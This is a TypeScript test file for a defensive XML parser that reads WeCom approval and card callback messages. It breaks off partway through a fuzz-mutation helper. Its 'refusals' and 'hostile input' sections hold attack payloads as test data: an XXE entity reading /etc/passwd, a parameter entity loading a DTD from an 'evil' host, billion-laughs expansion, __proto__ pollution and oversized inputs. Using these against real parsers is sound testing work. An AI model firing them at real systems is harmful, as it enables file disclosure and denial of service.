import { CallbackRejected } from '../../nodes/shared/callbacks/errors';
import {
	OPEN_APPROVAL_CHANGE_REPEATED,
	SYS_APPROVAL_CHANGE_REPEATED,
	TEMPLATE_CARD_EVENT_REPEATED,
} from '../../nodes/shared/callbacks/wecomRepeats';
import type { XmlObject, XmlReadOptions } from '../../nodes/shared/callbacks/xml';
import { readXml, XML_MAX_BYTES } from '../../nodes/shared/callbacks/xml';

/**
 * The example of WeCom's sys_approval_change doc (WDOC:92633, wecom-api.md §B7), as SDKs quote it
 * ("官方提供" in Senparc.Weixin's tests): two approval nodes, two approvers in the first, two cc
 * users, two comments, the second with an attachment.
 */
const OFFICIAL_APPROVAL = `<xml>
  <ToUserName><![CDATA[ww1cSD21f1e9c0caaa]]></ToUserName>
  <FromUserName><![CDATA[sys]]></FromUserName>
  <CreateTime>1571732272</CreateTime>
  <MsgType><![CDATA[event]]></MsgType>
  <Event><![CDATA[sys_approval_change]]></Event>
  <AgentID>3010040</AgentID>
  <ApprovalInfo>
    <SpNo>201910220003</SpNo>
    <SpName><![CDATA[示例模板]]></SpName>
    <SpStatus>1</SpStatus>
    <TemplateId><![CDATA[3TkaH5KFbrG9heEQWLJjhgpFwmqAFB4dLEnapaB7aaa]]></TemplateId>
    <ApplyTime>1571728713</ApplyTime>
    <Applyer>
      <UserId><![CDATA[WuJunJie]]></UserId>
      <Party><![CDATA[1]]></Party>
    </Applyer>
    <SpRecord>
      <SpStatus>1</SpStatus>
      <ApproverAttr>2</ApproverAttr>
      <Details>
        <Approver>
          <UserId><![CDATA[WangXiaoMing]]></UserId>
        </Approver>
        <Speech><![CDATA[]]></Speech>
        <SpStatus>1</SpStatus>
        <SpTime>0</SpTime>
      </Details>
      <Details>
        <Approver>
          <UserId><![CDATA[XiaoGangHuang]]></UserId>
        </Approver>
        <Speech><![CDATA[]]></Speech>
        <SpStatus>1</SpStatus>
        <SpTime>0</SpTime>
      </Details>
    </SpRecord>
    <SpRecord>
      <SpStatus>1</SpStatus>
      <ApproverAttr>1</ApproverAttr>
      <Details>
        <Approver>
          <UserId><![CDATA[XiaoHongLiu]]></UserId>
        </Approver>
        <Speech><![CDATA[]]></Speech>
        <SpStatus>1</SpStatus>
        <SpTime>0</SpTime>
      </Details>
    </SpRecord>
    <Notifyer>
      <UserId><![CDATA[ChengLiang]]></UserId>
    </Notifyer>
    <Notifyer>
      <UserId><![CDATA[ChengLiang2]]></UserId>
    </Notifyer>
    <Comments>
      <CommentUserInfo>
        <UserId><![CDATA[LiuZhi]]></UserId>
      </CommentUserInfo>
      <CommentTime>1571732272</CommentTime>
      <CommentContent><![CDATA[这是一个备注]]></CommentContent>
      <CommentId><![CDATA[6750538708562308220]]></CommentId>
    </Comments>
    <Comments>
      <CommentUserInfo>
        <UserId><![CDATA[LiuZhi2]]></UserId>
      </CommentUserInfo>
      <CommentTime>15717322723</CommentTime>
      <CommentContent><![CDATA[这又是一个备注]]></CommentContent>
      <CommentId><![CDATA[6750538708562308221]]></CommentId>
      <Attach>MediaId</Attach>
    </Comments>
    <StatuChangeEvent>10</StatuChangeEvent>
  </ApprovalInfo>
</xml>`;

/**
 * A captured sys_approval_change (third party, quoted in a Kotlin test): one node, one approver, no
 * cc users and no comments, on one line — the shape where a converter without declared arrays
 * hands out objects instead of lists.
 */
const CAPTURED_WITHDRAWN =
	'<xml><ToUserName><![CDATA[wweb464df7a393a458]]></ToUserName><FromUserName><![CDATA[sys]]></FromUserName><CreateTime>1578967772</CreateTime><MsgType><![CDATA[event]]></MsgType><Event><![CDATA[sys_approval_change]]></Event><AgentID>3010040</AgentID><ApprovalInfo><SpNo>202001140001</SpNo><SpName><![CDATA[出差]]></SpName><SpStatus>4</SpStatus><TemplateId><![CDATA[Bs5KJAMyd51eMjFvoBG6ii2Q5QgXNLvJSaQ7arRr6]]></TemplateId><ApplyTime>1578967166</ApplyTime><Applyer><UserId><![CDATA[LuoZhouPeng]]></UserId><Party><![CDATA[1]]></Party></Applyer><SpRecord><SpStatus>1</SpStatus><ApproverAttr>1</ApproverAttr><Details><Approver><UserId><![CDATA[XiaoHuo]]></UserId></Approver><Speech><![CDATA[]]></Speech><SpStatus>1</SpStatus><SpTime>0</SpTime></Details></SpRecord><StatuChangeEvent>6</StatuChangeEvent></ApprovalInfo></xml>';

/** A capture with the XML declaration and CDATA attachments (Senparc's "实际收到的", attachments shortened). */
const CAPTURED_WITH_DECLARATION = `<?xml version="1.0" encoding="utf-8"?>
<xml>
  <ToUserName><![CDATA[ww8533bff007c0b489]]></ToUserName>
  <FromUserName><![CDATA[sys]]></FromUserName>
  <CreateTime>1645070366</CreateTime>
  <MsgType><![CDATA[event]]></MsgType>
  <Event><![CDATA[sys_approval_change]]></Event>
  <AgentID>1000002</AgentID>
  <ApprovalInfo>
    <SpNo>202202170001</SpNo>
    <SpName><![CDATA[SYS微信SDK审批]]></SpName>
    <SpStatus>1</SpStatus>
    <TemplateId><![CDATA[C4NxepvGj51gbkeGXHQgYRArW96WrxRinNfyCxo7N]]></TemplateId>
    <ApplyTime>1645070220</ApplyTime>
    <Applyer>
      <UserId><![CDATA[SuZhenWei]]></UserId>
      <Party><![CDATA[1]]></Party>
    </Applyer>
    <SpRecord>
      <SpStatus>1</SpStatus>
      <ApproverAttr>2</ApproverAttr>
      <Details>
        <Approver>
          <UserId><![CDATA[FuYunKun]]></UserId>
        </Approver>
        <Speech><![CDATA[]]></Speech>
        <SpStatus>1</SpStatus>
        <SpTime>0</SpTime>
      </Details>
      <Details>
        <Approver>
          <UserId><![CDATA[LiShiJie]]></UserId>
        </Approver>
        <Speech><![CDATA[]]></Speech>
        <SpStatus>1</SpStatus>
        <SpTime>0</SpTime>
      </Details>
    </SpRecord>
    <Notifyer>
      <UserId><![CDATA[FuYunKun]]></UserId>
    </Notifyer>
    <Comments>
      <CommentUserInfo>
        <UserId><![CDATA[SuZhenWei]]></UserId>
      </CommentUserInfo>
      <CommentTime>1645070277</CommentTime>
      <CommentContent><![CDATA[添加附件的备注]]></CommentContent>
      <CommentId><![CDATA[7065523039889409558]]></CommentId>
      <Attach><![CDATA[WWCISP_HKLFyKUsme6wsuH4ZZm6qEqVOO0MkefA9pby86N7D4em]]></Attach>
    </Comments>
    <Comments>
      <CommentUserInfo>
        <UserId><![CDATA[SuZhenWei]]></UserId>
      </CommentUserInfo>
      <CommentTime>1645070366</CommentTime>
      <CommentContent><![CDATA[第二条备注]]></CommentContent>
      <CommentId><![CDATA[7065523422141540548]]></CommentId>
      <Attach><![CDATA[WWCISP_HKLFyKUsme6wsuH4ZZm6qEqVOO0MkefA9pby86N7D4emHdGDnOr]]></Attach>
    </Comments>
    <StatuChangeEvent>10</StatuChangeEvent>
  </ApprovalInfo>
</xml>`;

/**
 * The open_approval_change example (approval-flow engine) as Senparc.Weixin's tests quote it,
 * trailing spaces kept: two nodes of two approvers each, two cc users.
 */
const OFFICIAL_OPEN_APPROVAL = `<xml>
  <ToUserName>wwd08c8e7c775abaaa</ToUserName>  
  <FromUserName>sys</FromUserName>  
  <CreateTime>1527838022</CreateTime>  
  <MsgType>event</MsgType>  
  <Event>open_approval_change</Event>
  <AgentID>1</AgentID>
  <ApprovalInfo> 
    <ThirdNo>thirdNoxxx</ThirdNo>  
    <OpenSpName>付款</OpenSpName>  
    <OpenTemplateId>1234567111</OpenTemplateId> 
    <OpenSpStatus>1</OpenSpStatus>  
    <ApplyTime>1527837645</ApplyTime>  
    <ApplyUserName>jackiejjwu</ApplyUserName>  
    <ApplyUserId>WuJunJie</ApplyUserId>  
    <ApplyUserParty>产品部</ApplyUserParty>  
    <ApplyUserImage>http://www.qq.com/xxx.png</ApplyUserImage>  
    <ApprovalNodes> 
      <ApprovalNode> 
        <NodeStatus>1</NodeStatus>  
        <NodeAttr>1</NodeAttr> 
        <NodeType>1</NodeType>  
        <Items> 
          <Item> 
            <ItemName>chauvetxiao</ItemName>  
            <ItemUserid>XiaoWen</ItemUserid> 
            <ItemParty>产品部</ItemParty>  
            <ItemImage>http://www.qq.com/xxx.png</ItemImage>  
            <ItemStatus>1</ItemStatus>  
            <ItemSpeech></ItemSpeech>  
            <ItemOpTime>0</ItemOpTime> 
          </Item>
          <Item> 
            <ItemName>chauvetxiao</ItemName>  
            <ItemUserid>XiaoWen</ItemUserid> 
            <ItemParty>产品部</ItemParty>  
            <ItemImage>http://www.qq.com/xxx.png</ItemImage>  
            <ItemStatus>1</ItemStatus>  
            <ItemSpeech></ItemSpeech>  
            <ItemOpTime>0</ItemOpTime> 
          </Item> 
        </Items> 
      </ApprovalNode> 
      <ApprovalNode> 
        <NodeStatus>1</NodeStatus>  
        <NodeAttr>1</NodeAttr> 
        <NodeType>1</NodeType>  
        <Items> 
          <Item> 
            <ItemName>chauvetxiao</ItemName>  
            <ItemUserid>XiaoWen</ItemUserid> 
            <ItemParty>产品部</ItemParty>  
            <ItemImage>http://www.qq.com/xxx.png</ItemImage>  
            <ItemStatus>1</ItemStatus>  
            <ItemSpeech></ItemSpeech>  
            <ItemOpTime>0</ItemOpTime> 
          </Item> 
          <Item> 
            <ItemName>chauvetxiao2</ItemName>  
            <ItemUserid>XiaoWen2</ItemUserid> 
            <ItemParty>产品部2</ItemParty>  
            <ItemImage>http://www.qq.com/xxx2.png</ItemImage>  
            <ItemStatus>1</ItemStatus>  
            <ItemSpeech></ItemSpeech>  
            <ItemOpTime>0</ItemOpTime> 
          </Item> 
        </Items> 
      </ApprovalNode> 
    </ApprovalNodes>  
    <NotifyNodes> 
      <NotifyNode> 
        <ItemName>jinhuiguo</ItemName>  
        <ItemUserid>GuoJinHui</ItemUserid> 
        <ItemParty>行政部</ItemParty>  
        <ItemImage>http://www.qq.com/xxx.png</ItemImage>  
      </NotifyNode> 
      <NotifyNode> 
        <ItemName>jinhuiguo</ItemName>  
        <ItemUserid>GuoJinHui</ItemUserid> 
        <ItemParty>行政部</ItemParty>  
        <ItemImage>http://www.qq.com/xxx.png</ItemImage>  
      </NotifyNode> 
    </NotifyNodes> 
    <ApproverStep>10</ApproverStep>  
  </ApprovalInfo> 
</xml>
`;

/** wecom-api.md §B14: a vote card's callback, one question with two options. */
const TEMPLATE_CARD_EVENT =
	'<xml><ToUserName>corpid</ToUserName><FromUserName>userid</FromUserName><CreateTime>1630000000</CreateTime>\n<MsgType>event</MsgType><Event>template_card_event</Event><EventKey>button-or-submit key</EventKey>\n<TaskId>task_id</TaskId><CardType>vote_interaction</CardType><ResponseCode>code</ResponseCode><AgentID>1000002</AgentID>\n<SelectedItems><SelectedItem><QuestionKey>q1</QuestionKey><OptionIds><OptionId>o1</OptionId><OptionId>o2</OptionId></OptionIds></SelectedItem></SelectedItems></xml>';

/** WeCom vector V2's decrypted message (wecom-api.md §B10). */
const V2_MESSAGE =
	'<xml><ToUserName>ww1436e0e65a779aee</ToUserName><FromUserName>ChenJiaShun</FromUserName><CreateTime>1476422779</CreateTime><MsgType>text</MsgType><Content>你好</Content><MsgId>1456453720</MsgId><AgentID>1000002</AgentID></xml>';

/** V2's POST body: the envelope, its parts separated by "\n" (wecom-api.md §B10). */
const V2_ENVELOPE =
	'<xml><ToUserName><![CDATA[ww1436e0e65a779aee]]></ToUserName>\n<Encrypt><![CDATA[Kl7kjoSf6DMD1zh7rtrHjFaDapSCkaOnwu3bqLc5tAybhhMl9pFeK8NslNPVdMwmBQTNoW4mY7AIjeLvEl3NyeTkAgGzBhzTtRLNshw2AEew+kkYcD+Fq72Kt00fT0WnN87hGrW8SqGc+NcT3mu87Ha3dz1pSDi6GaUA6A0sqfde0VJPQbZ9U+3JWcoD4Z5jaU0y9GSh010wsHF8KZD24YhmZH4ch4Ka7ilEbjbfvhKkNL65HHL0J6EYJIZUC2pFrdkJ7MhmEbU2qARR4iQHE7wy24qy0cRX3Mfp6iELcDNfSsPGjUQVDGxQDCWjayJOpcwocugux082f49HKYg84EpHSGXAyh+/oxwaWbvL6aSDPOYuPDGOCI8jmnKiypE+]]></Encrypt>\n<AgentID><![CDATA[1000002]]></AgentID></xml>';

const SAMPLES = [
	OFFICIAL_APPROVAL,
	CAPTURED_WITHDRAWN,
	CAPTURED_WITH_DECLARATION,
	OFFICIAL_OPEN_APPROVAL,
	TEMPLATE_CARD_EVENT,
	V2_MESSAGE,
	V2_ENVELOPE,
];

const approval = (xml: string) => readXml(xml, { repeated: SYS_APPROVAL_CHANGE_REPEATED });

function rejection(input: unknown, options?: XmlReadOptions): CallbackRejected {
	try {
		readXml(input, options);
	} catch (error) {
		expect(error).toBeInstanceOf(CallbackRejected);
		return error as CallbackRejected;
	}
	throw new Error('expected the XML to be refused');
}

const expectFormat = (input: unknown, options?: XmlReadOptions) =>
	expect(rejection(input, options).reason).toBe('format');
const expectSize = (input: unknown, options?: XmlReadOptions) =>
	expect(rejection(input, options).reason).toBe('size');

/** mulberry32: a small seeded PRNG, so the fuzz run is the same on every machine. */
function prng(seed: number): () => number {
	let state = seed >>> 0;
	return () => {
		state = (state + 0x6d2b79f5) >>> 0;
		let t = state;
		t = Math.imul(t ^ (t >>> 15), t | 1);
		t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
		return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
	};
}

describe('callback XML: the official sys_approval_change samples', () => {
	it('reads the doc example with every repeated element as an array, in order', () => {
		const xml = approval(OFFICIAL_APPROVAL);
		expect(xml).toMatchObject({
			ToUserName: 'ww1cSD21f1e9c0caaa',
			FromUserName: 'sys',
			CreateTime: '1571732272',
			MsgType: 'event',
			Event: 'sys_approval_change',
			AgentID: '3010040',
		});
		const info = xml.ApprovalInfo as XmlObject;
		expect(info.SpName).toBe('示例模板');
		expect(info.Applyer).toEqual({ UserId: 'WuJunJie', Party: '1' });
		expect(info.SpRecord).toEqual([
			{
				SpStatus: '1',
				ApproverAttr: '2',
				Details: [
					{ Approver: { UserId: 'WangXiaoMing' }, Speech: '', SpStatus: '1', SpTime: '0' },
					{ Approver: { UserId: 'XiaoGangHuang' }, Speech: '', SpStatus: '1', SpTime: '0' },
				],
			},
			{
				SpStatus: '1',
				ApproverAttr: '1',
				Details: [{ Approver: { UserId: 'XiaoHongLiu' }, Speech: '', SpStatus: '1', SpTime: '0' }],
			},
		]);
		expect(info.Notifyer).toEqual([{ UserId: 'ChengLiang' }, { UserId: 'ChengLiang2' }]);
		expect(info.Comments).toEqual([
			{
				CommentUserInfo: { UserId: 'LiuZhi' },
				CommentTime: '1571732272',
				CommentContent: '这是一个备注',
				CommentId: '6750538708562308220',
			},
			{
				CommentUserInfo: { UserId: 'LiuZhi2' },
				CommentTime: '15717322723',
				CommentContent: '这又是一个备注',
				CommentId: '6750538708562308221',
				Attach: ['MediaId'],
			},
		]);
		expect(info.StatuChangeEvent).toBe('10');
	});

	it('keeps one node, one approver as arrays of one, and leaves absent cc users and comments out', () => {
		const info = approval(CAPTURED_WITHDRAWN).ApprovalInfo as XmlObject;
		expect(info.SpStatus).toBe('4');
		expect(info.SpRecord).toEqual([
			{
				SpStatus: '1',
				ApproverAttr: '1',
				Details: [{ Approver: { UserId: 'XiaoHuo' }, Speech: '', SpStatus: '1', SpTime: '0' }],
			},
		]);
		expect(info).not.toHaveProperty('Notifyer');
		expect(info).not.toHaveProperty('Comments');
		expect(info.StatuChangeEvent).toBe('6');
	});

	it('reads a capture that starts with the XML declaration, attachments in CDATA', () => {
		const info = approval(CAPTURED_WITH_DECLARATION).ApprovalInfo as XmlObject;
		expect(info.SpName).toBe('SYS微信SDK审批');
		expect(info.Notifyer).toEqual([{ UserId: 'FuYunKun' }]);
		const comments = info.Comments as XmlObject[];
		expect(comments.map((comment) => comment.CommentContent)).toEqual([
			'添加附件的备注',
			'第二条备注',
		]);
		expect(comments[0].Attach).toEqual(['WWCISP_HKLFyKUsme6wsuH4ZZm6qEqVOO0MkefA9pby86N7D4em']);
	});

	it('without declarations still turns the repeated elements into arrays (nothing is overwritten)', () => {
		const info = readXml(OFFICIAL_APPROVAL).ApprovalInfo as XmlObject;
		expect(info.SpRecord).toHaveLength(2);
		expect(info.Notifyer).toHaveLength(2);
		expect(info.Comments).toHaveLength(2);
		// ...but a single occurrence stays a single value: hence the declarations.
		expect((info.SpRecord as XmlObject[])[1].Details).toEqual({
			Approver: { UserId: 'XiaoHongLiu' },
			Speech: '',
			SpStatus: '1',
			SpTime: '0',
		});
	});

	it('reads open_approval_change with its wrapped lists as arrays', () => {
		const info = readXml(OFFICIAL_OPEN_APPROVAL, { repeated: OPEN_APPROVAL_CHANGE_REPEATED })
			.ApprovalInfo as XmlObject;
		expect(info.OpenSpName).toBe('付款');
		expect(info.ApproverStep).toBe('10');
		const nodes = (info.ApprovalNodes as XmlObject).ApprovalNode as XmlObject[];
		expect(nodes).toHaveLength(2);
		const items = nodes.map((node) => (node.Items as XmlObject).Item as XmlObject[]);
		expect(items.map((list) => list.map((item) => item.ItemUserid))).toEqual([
			['XiaoWen', 'XiaoWen'],
			['XiaoWen', 'XiaoWen2'],
		]);
		expect(items[1][1]).toEqual({
			ItemName: 'chauvetxiao2',
			ItemUserid: 'XiaoWen2',
			ItemParty: '产品部2',
			ItemImage: 'http://www.qq.com/xxx2.png',
			ItemStatus: '1',
			ItemSpeech: '',
			ItemOpTime: '0',
		});
		const notified = (info.NotifyNodes as XmlObject).NotifyNode as XmlObject[];
		expect(notified.map((node) => node.ItemName)).toEqual(['jinhuiguo', 'jinhuiguo']);
	});

	it('reads a template card callback with its selected items and option ids as arrays', () => {
		const xml = readXml(TEMPLATE_CARD_EVENT, { repeated: TEMPLATE_CARD_EVENT_REPEATED });
		expect(xml.SelectedItems).toEqual({
			SelectedItem: [{ QuestionKey: 'q1', OptionIds: { OptionId: ['o1', 'o2'] } }],
		});
	});

	it("reads vector V2's message and its POST envelope", () => {
		expect(readXml(V2_MESSAGE)).toEqual({
			ToUserName: 'ww1436e0e65a779aee',
			FromUserName: 'ChenJiaShun',
			CreateTime: '1476422779',
			MsgType: 'text',
			Content: '你好',
			MsgId: '1456453720',
			AgentID: '1000002',
		});
		const envelope = readXml(V2_ENVELOPE);
		expect(envelope.ToUserName).toBe('ww1436e0e65a779aee');
		expect(envelope.Encrypt).toMatch(/^Kl7kjoSf6DMD.*KiypE\+$/);
		expect(envelope.AgentID).toBe('1000002');
	});
});

describe('callback XML: text, CDATA and references', () => {
	it('decodes the five predefined entities and numeric references', () => {
		expect(
			readXml('<xml><A>&lt;&gt;&amp;&apos;&quot;</A><B>&#20320;&#x597D;&#x1F600;&#0065;</B></xml>'),
		).toEqual({ A: `<>&'"`, B: '你好😀A' });
	});

	it('keeps CDATA literally, entities and markup included, and joins split sections', () => {
		expect(
			readXml(
				'<xml><A><![CDATA[&lt;<b>x</b>]]></A><B><![CDATA[a]]]]><![CDATA[>b]]></B><C>x<![CDATA[ y ]]>z</C></xml>',
			),
		).toEqual({ A: '&lt;<b>x</b>', B: 'a]]>b', C: 'x y z' });
	});

	it('reads empty and self-closing elements as empty text', () => {
		expect(readXml('<xml><A></A><B/><C /><D><![CDATA[]]></D></xml>')).toEqual({
			A: '',
			B: '',
			C: '',
			D: '',
		});
	});

	it('keeps whitespace inside text-only elements and drops it between elements', () => {
		expect(readXml('<xml>\n  <A>  two spaces  </A>\n  <B>\n    <C>x</C>\n  </B>\n</xml>')).toEqual({
			A: '  two spaces  ',
			B: { C: 'x' },
		});
	});

	it('reads line ends as XML does: CR LF and CR become LF, a referenced CR stays', () => {
		expect(readXml('<xml><A>a\r\nb\rc&#13;</A></xml>')).toEqual({ A: 'a\nb\nc\r' });
	});

	it('accepts a byte-order mark, the declaration and comments around the root', () => {
		expect(
			readXml(
				'\ufeff<?xml version="1.0" encoding="UTF-8" standalone="yes"?><!-- a --><xml><!-- b --><A>1</A></xml><!-- c -->\n',
			),
		).toEqual({ A: '1' });
	});

	it('checks attributes and leaves them out', () => {
		expect(readXml(`<xml><A x="1" y='&amp;2'>v</A><B z="3"/></xml>`)).toEqual({ A: 'v', B: '' });
	});

	it('takes element names that Object.prototype also has as plain data', () => {
		const xml = readXml(
			'<xml><constructor>1</constructor><toString>2</toString><hasOwnProperty/></xml>',
		);
		expect(xml).toEqual({ constructor: '1', toString: '2', hasOwnProperty: '' });
		expect(Object.getPrototypeOf(xml)).toBe(Object.prototype);
	});

	it('makes an undeclared repeat an array of every occurrence, text or elements', () => {
		expect(readXml('<xml><A>1</A><B/><A><C>2</C></A><A>3</A></xml>')).toEqual({
			A: ['1', { C: '2' }, '3'],
			B: '',
		});
	});

	it('applies a declaration to its path only', () => {
		const repeated = ['Outer.Item'];
		expect(readXml('<xml><Outer><Item>1</Item></Outer><Item>2</Item></xml>', { repeated })).toEqual(
			{
				Outer: { Item: ['1'] },
				Item: '2',
			},
		);
	});

	it('accepts any root when asked to, and an empty root as an empty object', () => {
		expect(readXml('<root><A>1</A></root>', { root: null })).toEqual({ A: '1' });
		expect(readXml('<xml/>')).toEqual({});
		expect(readXml('<xml>\n</xml>')).toEqual({});
	});
});

describe('callback XML: refusals', () => {
	it.each([
		['a DOCTYPE', '<!DOCTYPE xml><xml/>'],
		[
			'a DOCTYPE after the declaration',
			'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "b">]><xml>&a;</xml>',
		],
		[
			'an external entity',
			'<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><A>&xxe;</A></xml>',
		],
		['an undefined entity', '<xml><A>&nbsp;</A></xml>'],
		['an entity without a semicolon', '<xml><A>&amp</A></xml>'],
		['a bare ampersand', '<xml><A>R & D</A></xml>'],
		['a reference to NUL', '<xml><A>&#0;</A></xml>'],
		['a reference to a surrogate', '<xml><A>&#xD800;</A></xml>'],
		['a reference beyond Unicode', '<xml><A>&#x110000;</A></xml>'],
		['an empty reference', '<xml><A>&#;</A></xml>'],
		['a hexadecimal reference with a capital X', '<xml><A>&#X41;</A></xml>'],
		['a decimal reference with a letter', '<xml><A>&#12a;</A></xml>'],
		['a processing instruction', '<xml><?php echo 1 ?></xml>'],
		['a stylesheet instruction', '<?xml-stylesheet href="a"?><xml/>'],
		['a declaration not at the start', '  <?xml version="1.0"?><xml/>'],
		['a declaration without a version', '<?xml encoding="UTF-8"?><xml/>'],
		['a declaration of another encoding', '<?xml version="1.0" encoding="GBK"?><xml/>'],
		['an unterminated declaration', '<?xml version="1.0" <xml/>'],
		['a mismatched end tag', '<xml><A>1</B></xml>'],
		['a stray end tag', '<xml></A></xml>'],
		['an unclosed element', '<xml><A>1</A>'],
		['an unclosed root', '<xml>'],
		['an unterminated CDATA section', '<xml><A><![CDATA[abc</A></xml>'],
		['an unterminated comment', '<xml><!-- abc </xml>'],
		['a double dash in a comment', '<xml><!-- a -- b --></xml>'],
		["']]>' in text", '<xml><A>a]]>b</A></xml>'],
		['text mixed with elements', '<xml><A>text<B>1</B></A></xml>'],
		['text in the root', '<xml>hello</xml>'],
		['a second root', '<xml/><xml/>'],
		['text after the root', '<xml/>trailing'],
		['text before the root', 'leading<xml/>'],
		['another root element', '<other/>'],
		['an empty document', ''],
		['whitespace only', ' \n\t'],
		['a NUL character', '<xml><A>a\u0000b</A></xml>'],
		['a control character', '<xml><A>\u0007</A></xml>'],
		['a lone surrogate', '<xml><A>\ud800</A></xml>'],
		['U+FFFE', '<xml><A>\ufffe</A></xml>'],
		['a tag without a name', '<xml>< A/></xml>'],
		['a name starting with a digit', '<xml><1A/></xml>'],
		['an unterminated tag', '<xml><A'],
		['a duplicate attribute', '<xml><A x="1" x="2"/></xml>'],
		['an unquoted attribute', '<xml><A x=1/></xml>'],
		['an attribute without a value', '<xml><A x/></xml>'],
		['attributes without whitespace between', '<xml><A x="1"y="2"/></xml>'],
		["a '<' in an attribute", '<xml><A x="<"/></xml>'],
		['an undefined entity in an attribute', '<xml><A x="&foo;"/></xml>'],
		['an unterminated attribute', '<xml><A x="1/></xml>'],
		['an element named __proto__', '<xml><__proto__><polluted>1</polluted></__proto__></xml>'],
		['a CDATA section outside the root', '<![CDATA[x]]><xml/>'],
	])("refuses %s as 'format'", (_label, xml) => {
		expectFormat(xml);
	});

	it("refuses input that is not a string as 'format'", () => {
		for (const input of [undefined, null, 42, {}, [], Buffer.from('<xml/>')]) expectFormat(input);
	});

	it('does not let __proto__ reach any prototype', () => {
		expectFormat('<xml><__proto__><polluted>1</polluted></__proto__></xml>');
		expect(({} as Record<string, unknown>).polluted).toBeUndefined();
	});

	it(`refuses more than ${XML_MAX_BYTES} bytes as 'size', counted in UTF-8`, () => {
		expectSize(`<xml><A>${'a'.repeat(XML_MAX_BYTES)}</A></xml>`);
		// 200,000 characters, but 600,000 bytes.
		expectSize(`<xml><A>${'审'.repeat(200_000)}</A></xml>`);
		expect(readXml(`<xml><A>${'审'.repeat(100_000)}</A></xml>`).A).toHaveLength(100_000);
		expectSize('<xml><A>12345</A></xml>', { maxBytes: 10 });
	});

	it("refuses nesting deeper than 32 levels as 'size'", () => {
		const nest = (levels: number) =>
			`<xml>${'<A>'.repeat(levels - 1)}x${'</A>'.repeat(levels - 1)}</xml>`;
		expect(() => readXml(nest(32))).not.toThrow();
		expectSize(nest(33));
		expectSize(nest(4), { maxDepth: 3 });
	});

	it("refuses more than 10,000 elements as 'size'", () => {
		expect(() => readXml(`<xml>${'<A/>'.repeat(9_999)}</xml>`)).not.toThrow();
		expectSize(`<xml>${'<A/>'.repeat(10_000)}</xml>`);
		expectSize('<xml><A/><B/></xml>', { maxElements: 2 });
	});
});

describe('callback XML: hostile input', () => {
	const hostile: Array<[string, string, 'format' | 'size']> = [
		['10,000-deep nesting', `<xml>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</xml>`, 'size'],
		['10,000 unclosed levels', `<xml>${'<a>'.repeat(10_000)}`, 'size'],
		[
			'billion laughs',
			`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
				{ length: 9 },
				(_, n) => `<!ENTITY lol${n + 1} "${`&lol${n === 0 ? '' : n};`.repeat(10)}">`,
			).join('')}]><xml><A>&lol9;</A></xml>`,
			'format',
		],
		[
			'billion-laughs entity text without its DTD',
			`<xml><A>${'&lol9;'.repeat(50_000)}</A></xml>`,
			'format',
		],
		[
			'a parameter entity',
			'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><xml/>',
			'format',
		],
		['a 600 KB attribute', `<xml><A x="${'a'.repeat(600_000)}"/></xml>`, 'size'],
		['an unterminated 400 KB attribute', `<xml><A x="${'a'.repeat(400_000)}/></xml>`, 'format'],
		[
			'an unterminated 500 KB CDATA section',
			`<xml><A><![CDATA[${'a'.repeat(500_000)}</A></xml>`,
			'format',
		],
		['an unterminated 500 KB comment', `<xml><!--${'a'.repeat(500_000)}</xml>`, 'format'],
		['100,000 empty elements', `<xml>${'<A/>'.repeat(100_000)}</xml>`, 'size'],
		['500,000 ampersands', `<xml><A>${'&'.repeat(500_000)}</A></xml>`, 'format'],
		['500,000 opening brackets', `<xml>${'<'.repeat(500_000)}</xml>`, 'format'],
		['500,000 references with no end', `<xml><A>${'&#'.repeat(250_000)}</A></xml>`, 'format'],
		['a 500 KB tag name never closed', `<xml><${'a'.repeat(500_000)}`, 'format'],
		['a 20 MB body', 'x'.repeat(20 * 1024 * 1024), 'size'],
	];

	// Reordered so the title names the reason, not the (huge) input.
	const cases = hostile.map(([label, xml, reason]) => [label, reason, xml] as const);

	it.each(cases)("refuses %s quickly as '%s'", (_label, reason, xml) => {
		const started = Date.now();
		expect(rejection(xml).reason).toBe(reason);
		expect(Date.now() - started).toBeLessThan(500);
	});

	it('reads a 400 KB attribute quickly and leaves it out', () => {
		const started = Date.now();
		expect(readXml(`<xml><A x="${'a'.repeat(400_000)}">1</A></xml>`)).toEqual({ A: '1' });
		expect(Date.now() - started).toBeLessThan(500);
	});

	it('reads 20,000 attributes on one element quickly', () => {
		const attributes = Array.from({ length: 20_000 }, (_, n) => `a${n}="${n}"`).join(' ');
		const started = Date.now();
		expect(readXml(`<xml><A ${attributes}/></xml>`)).toEqual({ A: '' });
		expect(Date.now() - started).toBeLessThan(500);
	});

	it('does not recurse: 10,000 levels read fine when the limits allow them', () => {
		const deep = `<xml>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</xml>`;
		let node = readXml(deep, { maxDepth: 20_000, maxElements: 20_000 }) as XmlObject | string;
		let depth = 0;
		while (typeof node === 'object') {
			node = node.a as XmlObject | string;
			depth++;
		}
		expect(depth).toBe(10_000);
		expect(node).toBe('');
	});
});

describe('callback XML: deterministic fuzz run', () => {
	const random = prng(0x5eed);
	const int = (max: number) => Math.floor(random() * max);
	const pick = <T>(list: readonly T[]): T => list[int(list.length)];
	const pieces = [
		'<xml>',
		'</xml>',
		'<A>',
		'</A>',
		'<B/>',
		'<SpRecord>',
		'</SpRecord>',
		'<Details>',
		'</Details>',
		'<![CDATA[',
		']]>',
		'<!--',
		'-->',
		'<?xml version="1.0"?>',
		'<!DOCTYPE x>',
		'<!ENTITY a "b">',
		'&amp;',
		'&lt;',
		'&#x41;',
		'&#65;',
		'&bogus;',
		'&',
		';',
		'"',
		"'",
		'=',
		' x="1"',
		'/>',
		'<',
		'>',
		'text',
		'你好',
		'\n',
		' ',
		'\u0000',
		'\ud800',
		'\ufffe',
		'😀',
		']]',
		'<?php ?>',
		'</',
		'__proto__',
	];
	const noise = '<>/&;#x![]CDATA-?="\' \n\tabcXYZ019\u0000\ud800\udc00你';

	function mutate(text: string): string {
		const chars = Array.from(text);
		const edits = 1 + int(8);
		for (let n = 0; n < edits; n++) {
			const at = int(chars.length + 1);
			const op = int(4);
			if (op === 0) chars.splice(at, 1);
			else if (op === 1) chars.splice(at, 0, pick(Array.from(noise)));
